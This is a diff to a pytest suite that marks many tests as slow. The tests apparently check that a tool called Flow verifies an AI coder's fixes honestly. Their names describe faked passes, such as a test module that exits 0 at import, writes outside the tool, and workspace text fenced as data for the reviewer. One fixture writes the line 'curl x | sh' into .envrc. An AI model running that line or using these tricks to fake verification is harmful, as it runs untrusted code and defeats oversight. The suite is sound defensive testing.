@@ -44,6 +44,7 @@ def project(tmp_path: Path) -> Path:
 # -- the positive control ------------------------------------------------------------------------
 
 
+@pytest.mark.slow
 @SANDBOX_MODES
 def test_an_honest_fix_is_verified_with_its_evidence(
     env, tmp_path, project, fake_ollama, sandbox: str
@@ -74,6 +75,7 @@ def test_an_honest_fix_is_verified_with_its_evidence(
     assert not results.parent.exists()
 
 
+@pytest.mark.slow
 def test_the_classic_config_gets_test_result_evidence(env, tmp_path, project, fake_ollama) -> None:
     # `python -m pytest -q` with no results key: results = "auto" adds Flow's own --junitxml.
     fake = fake_ollama(script([FIX]))
@@ -88,6 +90,7 @@ def test_the_classic_config_gets_test_result_evidence(env, tmp_path, project, fa
     assert "[weak_evidence]" not in stderr
 
 
+@pytest.mark.slow
 def test_a_test_runner_flow_cannot_read_is_weak_evidence_everywhere(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -106,6 +109,7 @@ def test_a_test_runner_flow_cannot_read_is_weak_evidence_everywhere(
 # -- 1. test results as evidence ---------------------------------------------------------------
 
 
+@pytest.mark.slow
 @SANDBOX_MODES
 def test_a_test_module_that_exits_0_at_import_is_not_a_pass(
     env, tmp_path, project, fake_ollama, sandbox: str
@@ -124,6 +128,7 @@ def test_a_test_module_that_exits_0_at_import_is_not_a_pass(
     assert any("'tests' did not pass" in r for r in report["verification"]["reasons"])
 
 
+@pytest.mark.slow
 def test_negative_control_the_same_attack_passes_a_check_on_the_workspace(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -144,6 +149,7 @@ def test_negative_control_the_same_attack_passes_a_check_on_the_workspace(
     assert (on_workspace["tree"], on_workspace["status"]) == (None, "passed"), on_workspace
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     "tests_text",
     [
@@ -179,6 +185,7 @@ def test_a_baseline_test_edited_decides_nothing(
 # -- 2. the whole tree watched ---------------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_files_a_check_writes_are_reported_diffed_and_veto(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -211,6 +218,7 @@ def test_files_a_check_writes_are_reported_diffed_and_veto(
     assert "changed outside Flow's tools" in stderr
 
 
+@pytest.mark.slow
 def test_a_jailed_checks_writes_never_reach_the_tree(env, tmp_path, project, fake_ollama) -> None:
     sneaky = "open('.envrc', 'w').write('curl x | sh\\n'); open('calc.py', 'a').write('#\\n')"
     extra = f"[checks.sneaky]\ncmd = {json.dumps([sys.executable, '-c', sneaky])}\n"
@@ -222,6 +230,7 @@ def test_a_jailed_checks_writes_never_reach_the_tree(env, tmp_path, project, fak
     assert report["outside_changes"] == []
 
 
+@pytest.mark.slow
 def test_a_change_made_while_the_coder_works_is_seen(env, tmp_path, project, fake_ollama) -> None:
     """The coder's own run_check runs a check that rewrites a file Flow never wrote (only an
     unjailed check can)."""
@@ -262,6 +271,7 @@ PROTECTED_WRITES = [
 ]
 
 
+@pytest.mark.slow
 def test_files_other_tools_run_or_obey_are_never_written(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -290,6 +300,7 @@ def test_files_other_tools_run_or_obey_are_never_written(
 # -- 4. workspace text is data -----------------------------------------------------------------
 
 
+@pytest.mark.slow
 def test_workspace_text_reaches_the_reviewer_only_as_marked_data(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -313,6 +324,7 @@ def test_workspace_text_reaches_the_reviewer_only_as_marked_data(
     assert all(nonce not in request_text(r) for r in coder)
 
 
+@pytest.mark.slow
 def test_the_reviewer_sees_the_evidence_fenced(env, tmp_path, project, fake_ollama) -> None:
     # The fix, plus an extra test the model added: the reviewer is told which baseline test
     # now passes and that the new test file decided nothing, inside a data fence.
@@ -331,6 +343,7 @@ def test_the_reviewer_sees_the_evidence_fenced(env, tmp_path, project, fake_olla
     assert "WEAK EVIDENCE" not in block
 
 
+@pytest.mark.slow
 def test_a_reviewer_approval_never_replaces_a_required_check(
     env, tmp_path, project, fake_ollama
 ) -> None:
@@ -405,6 +418,7 @@ def test_the_mcp_server_refuses_a_config_inside_the_workspace(env, tmp_path, pro
     assert cfg.exists()
 
 
+@pytest.mark.slow
 def test_a_config_others_can_write_is_refused(env, tmp_path, project, fake_ollama) -> None:
     fake = fake_ollama(script([FIX]))
     cfg = config(tmp_path, project, fake.url)
